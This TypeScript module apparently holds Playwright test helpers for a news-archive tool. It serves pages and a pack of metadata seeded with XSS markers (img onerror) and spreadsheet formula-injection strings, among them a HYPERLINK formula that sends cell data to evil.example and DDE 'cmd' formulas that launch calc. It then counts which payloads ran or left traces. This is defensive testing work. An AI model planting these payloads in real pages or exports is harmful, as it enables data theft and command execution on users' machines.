import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { BrowserContext, Page } from 'playwright-core';
import { PAYLOADS, payloadPage } from './payloads.ts';
import { demarche, type Served, serveRecord, tempFolder } from './served.ts';

/** A file name that holds as much of a payload as a file system takes. */
export const fileName = (payload: string, n: number, ending: string): string =>
  `${n}-${payload.replace(/[/\\\u0000-\u001f]/g, '∕').slice(0, 120)}.${ending}`;

/** What a spreadsheet would take for a formula. */
export const FORMULAS: readonly string[] = [
  '=HYPERLINK("https://evil.example/?x="&A1,"read more")',
  '+1+cmd|"/c calc"!A0',
  '-2+3+cmd|"/c calc"!A0',
  '@SUM(1+1)*cmd|"/c calc"!A0',
  '＝1+1',
];

const formulaPage = (formula: string, n: number): string => {
  const text = formula.replaceAll('"', '&quot;').replaceAll('&A1', '&amp;A1');
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>${text}</title>
<meta property="og:title" content="${text}"><meta property="og:site_name" content="${text}">
<meta name="author" content="${text}"><meta property="article:published_time" content="2019-04-0${n + 1}T08:00:00Z"></head>
<body><article><h1>${text}</h1>
<p>NORTHMOUTH, April ${n + 1} - Number ${n} of the tables was read aloud in the harbour office to nobody in particular.</p>
<p>“${text}” Minister Ada Voss said on Monday about table ${n}, and went home by the ${n + 3} o'clock ferry.</p>
</article></body></html>
`;
};

const mark = (what: string): string => `<img class="xss-mark" src=x onerror=window.__ran()> ${what}`;

/** A dispute's pack that has a payload wherever one is written into by hand. */
const PACK = {
  schema: 1,
  id: 'hostile',
  title: mark('dispute'),
  extends: 'kurils',
  parties: [
    {
      id: 'orland',
      iso: '',
      names: { en: [mark('party'), 'Orland'] },
      adjectives: {},
      metonyms: {},
      leaderPhrases: [],
      leaderOffice: '',
      predecessor: null,
    },
  ],
  persons: [{ id: 'ada-voss', name: mark('Voss'), surname: 'Voss', aliases: ['Ada Voss'] }],
  issues: [{ id: 'hostile', label: mark('issue'), cues: { en: ['document'] } }],
  places: [
    {
      id: 'southmark',
      label: mark('place'),
      disputed: true,
      partOf: 'kurils-south',
      names: { rus: { en: ['Southmark'] }, jpn: { en: [mark('name')] } },
      at: [44.1, 146.1],
      settlements: [],
    },
  ],
  outlets: [],
};

/** Serves a record that has payloads in every field that is imported, its title and its pack among them. */
export const serveHostile = async (): Promise<Served> => {
  const folder = tempFolder();
  const pages = join(folder, 'pages');
  mkdirSync(pages);
  for (const [n, payload] of PAYLOADS.entries())
    writeFileSync(join(pages, fileName(payload, n, 'html')), payloadPage(payload, n));
  for (const [n, formula] of FORMULAS.entries())
    writeFileSync(join(pages, fileName(formula, n, 'html')), formulaPage(formula, n));
  const [pack, record] = [join(folder, 'pack.json'), join(folder, 'hostile.demarche')];
  writeFileSync(pack, JSON.stringify(PACK));
  demarche(['init', record, '--pack', pack, '--title', mark('title')]);
  demarche(['add', pages, '--record', record, '--quiet']);
  return serveRecord(record, folder);
};

/** Tells how many payloads have run in the pages of a profile. Dialogs are closed, and count. */
export const countRuns = async (context: BrowserContext): Promise<() => number> => {
  let runs = 0;
  await context.exposeFunction('__ran', () => {
    runs += 1;
  });
  context.on('dialog', (dialog) => {
    runs += 1;
    void dialog.dismiss();
  });
  return () => runs;
};

/**
 * What careless handling of a payload leaves in a page, whether or not it ran: elements of payloads, attributes that run
 * scripts, frames, and links that lead to a script or, without saying so, to another server. Nothing of it is ever the desk's.
 */
export const tracesIn = (page: Page): Promise<readonly string[]> =>
  page.evaluate(() => {
    const leads = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'background', 'poster'];
    const isAddress = (value: string): boolean => {
      if (value.startsWith('//') || !URL.canParse(value, 'http://desk.example/')) return false;
      return /^(?:https?|blob):$/.test(new URL(value, 'http://desk.example/').protocol);
    };
    const isTrace = (element: Element): boolean =>
      element.matches('.xss-mark, iframe, frame, object, embed, base, meta[http-equiv], marquee') ||
      [...element.attributes].some(
        ({ name, value }) => name.startsWith('on') || (leads.includes(name) && !isAddress(value)),
      );
    return [...document.querySelectorAll('*')]
      .filter(isTrace)
      .map((element) => element.outerHTML.slice(0, 200));
  });

/** Ways to be careless with a text: one page of each runs, or keeps traces of, the payloads that are made for it. */
export const CARELESS: readonly ((text: string) => string)[] = [
  (text) => `<p>${text}</p>`,
  (text) => `<p title="${text}">words</p>`,
  (text) => `<p title='${text}'>words</p>`,
  (text) => `<p title=${text}>words</p>`,
  (text) => `<a href="${text}">words</a>`,
  (text) => `<title>${text}</title>`,
  (text) => `<textarea>${text}</textarea>`,
  (text) => `<script>\n{ const text = '${text}';\n}</script>`,
  (text) => `<script>\n{ const text = "${text}";\n}</script>`,
  (text) => `<script>\n{ const text = "${text.replaceAll('"', '\\"')}";\n}</script>`,
  (text) => `<script>\n{ const text = \`${text}\`;\n}</script>`,
];
